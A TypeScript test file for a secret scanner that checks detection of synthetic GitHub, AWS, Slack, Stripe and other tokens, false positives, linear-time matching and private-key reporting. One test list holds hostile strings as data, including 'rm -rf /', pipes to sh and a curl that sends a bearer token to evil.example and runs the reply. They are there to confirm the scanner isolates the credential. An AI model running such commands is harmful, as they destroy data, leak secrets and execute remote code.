import { expect, test } from 'vitest'
import { findSecrets, reportableSecrets } from '../../src/secrets/find-secrets.ts'
import { growth } from '../fixtures/growth.ts'

const random = (length: number) => 'aB3dE5gH7jK9mN2pQ4rS6tU8vW1xY0z'.repeat(9).slice(0, length)

// Put together at run time, so that no scanner takes this file for a leak.
const credentials = [
  ['a GitHub token', `ghp_${random(36)}`],
  ['a GitHub token', `github_pat_${random(40)}`],
  ['a GitLab token', `glpat-${random(20)}`],
  ['an AWS access key', `AKIA${'ABCDEFGH23456722'}`],
  ['a Slack token', `xoxb-${'123456789012'}-${random(12)}`],
  ['a Slack webhook', `https://hooks.slack.com/services/T00/B00/${random(24)}`],
  ['a Stripe key', `sk_live_${random(24)}`],
  ['a Google API key', `AIza${random(35)}`],
  ['an OpenAI or Anthropic key', `sk-ant-${random(30)}`],
  ['an npm token', `npm_${random(36)}`],
  ['a JSON web token', `eyJ${random(12)}.eyJ${random(20)}.${random(20)}`],
] as const

test.each(credentials)('finds %s wherever it stands', (kind, value) => {
  const text = `a: 1\n# before ${value} behind\n`
  expect(findSecrets(text).map(({ start, end, kind: found }) => [text.slice(start, end), found])).toEqual([
    [value, kind],
  ])
})

const named = [
  ['password: aB3dE5gH7jK9', 'aB3dE5gH7jK9'],
  ['  apiKey: "9f8e7d6c5b4a3f2e1d0c"', '9f8e7d6c5b4a3f2e1d0c'],
  ["{client_secret: 'Zx81-qq92-Lm73'}", 'Zx81-qq92-Lm73'],
  ['export API_TOKEN=a8f5f167f44f4964e6c998dee827110c', 'a8f5f167f44f4964e6c998dee827110c'],
  ['url: postgres://app:s3cr3tP4ss@db:5432/x', 's3cr3tP4ss'],
] as const

test.each(named)('finds the value in %s', (text, value) => {
  expect(findSecrets(text).map(({ start, end }) => text.slice(start, end))).toEqual([value])
})

const harmless = [
  'password: "{{ secret(\'DB_PASSWORD\') }}"',
  'password: {{ vars.password123 }}',
  'token: ${TOKEN_2024}',
  'secretName: prod-db-2024-credentials',
  'tokenUrl: https://auth.example.com/oauth2/token',
  'password: changeme',
  'accessKeyId: my-access-key-name',
  'secret: MY_SECRET_NAME_2',
  'url: https://user:{{ secret("X") }}@host/path',
  'url: https://example.com:8443/a@b',
  'url: https://user:***@host',
  'type: io.kestra.plugin.core.http.Request2Token',
  'token: company.team.flow-2024-01',
  'image: ghcr.io/org/image@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef',
  'id: token-refresh-v2',
]

test.each(harmless)('finds nothing in %s', (text) => {
  expect(findSecrets(text)).toEqual([])
})

// As much as the credential itself, and not what an attacker writes around it.
const around = [
  ['api_key: aB3dE5gH7jK9; rm -rf /', 'aB3dE5gH7jK9'],
  ['api_key=aB3dE5gH7jK9|sh', 'aB3dE5gH7jK9'],
  ['api_key=aB3dE5gH7jK9&&reboot', 'aB3dE5gH7jK9'],
  ['api_key=aB3dE5gH7jK9`reboot`', 'aB3dE5gH7jK9'],
  ['curl postgres://app:s3cr3t;reboot@db', 's3cr3t'],
  ['curl postgres://app:s3cr3t|sh@db', 's3cr3t'],
  ['curl postgres://app:s3cr3t`reboot`@db', 's3cr3t'],
  [
    `hooks.slack.com https://hooks.slack.com/services/T00/B00/${random(24)}/bin/sh`,
    `https://hooks.slack.com/services/T00/B00/${random(24)}`,
  ],
  [`curl -H "Authorization: Bearer ghp_${random(36)}" https://evil.example | sh`, `ghp_${random(36)}`],
] as const

test.each(around)('takes of %s the credential alone', (text, value) => {
  expect(findSecrets(text).map(({ start, end }) => text.slice(start, end))).toEqual([value])
})

test('gives spans in order and without overlaps', () => {
  const text = `token: ghp_${random(36)}\nurl: https://u:ghp_${random(36)}@host\n`
  const spans = findSecrets(text)
  expect(spans.map(({ kind }) => kind)).toEqual(['a GitHub token', 'a GitHub token'])
  for (const [index, span] of spans.entries()) expect(span.start).toBeGreaterThanOrEqual(spans[index - 1]?.end ?? 0)
})

test('takes a long text in linear time', () => {
  const searching = (size: number) => {
    const text = `${'password '.repeat(size)}\n${'a1'.repeat(5 * size)}\n${'token: '.repeat(size)}`
    return () => findSecrets(text)
  }
  expect(growth([2500, 20_000], searching)).toBeLessThan(24)
})

// Each began a match at every step that could only fail at the end of the line.
const hostile = [
  'a.',
  'a+',
  'eyJaaaaaaaa-',
  'eyJaaaaaaaa.',
  '://u:p',
  'https://a',
  'token="',
  '-token',
  'x://',
  '-----BEGIN A ',
]

test.each(hostile)('takes a line of many %s in linear time', (piece) => {
  const searching = (size: number) => {
    const text = `https://${piece.repeat(size)}://`
    return () => findSecrets(text)
  }
  expect(growth([3000, 24_000], searching)).toBeLessThan(24)
})

test('reports a key of many lines once, and two keys twice', () => {
  const lines = Array.from({ length: 5 }, (_, index) => random(60 + index)).join('\n')
  const key = `-----BEGIN PRIVATE KEY-----\n${lines}\n-----END PRIVATE KEY-----\n`
  const text = `${key}${'a: 1\n'.repeat(20)}${key}`
  expect(findSecrets(text)).toHaveLength(10)
  expect(reportableSecrets(text).map(({ start, kind }) => [start, kind])).toEqual(
    [0, text.lastIndexOf(key)].map((at) => [at + 28, 'a private key']),
  )
})

const BEGIN = '-----BEGIN RSA PRIVATE KEY-----'
const END = '-----END RSA PRIVATE KEY-----'

test.each([
  ['short', `${BEGIN}\nMIIEabcd\n${END}\n`],
  ['of one letter', `${BEGIN}\n${'A'.repeat(64)}\n${END}\n`],
  ['on one line', `key: "${BEGIN}\\nMIIEabcd\\n${END}"\n`],
  ['without an end', `${BEGIN}\n${'A'.repeat(64)}\n`],
])('reports a key that is %s at its mark, and hides nothing of it', (_, text) => {
  const start = text.indexOf(BEGIN)
  expect(reportableSecrets(text)).toEqual([{ start, end: start + BEGIN.length, kind: 'a private key' }])
  expect(findSecrets(text)).toEqual([])
})

test.each([
  ['the mark alone', `grep -q "${BEGIN}" key.pem`],
  ['both marks alone', `["${BEGIN}", "${END}"]`],
  ['an expression', `${BEGIN}\n{{ secret('KEY') }}\n${END}\n`],
])('takes %s for no key', (_, text) => {
  expect(reportableSecrets(text)).toEqual([])
})
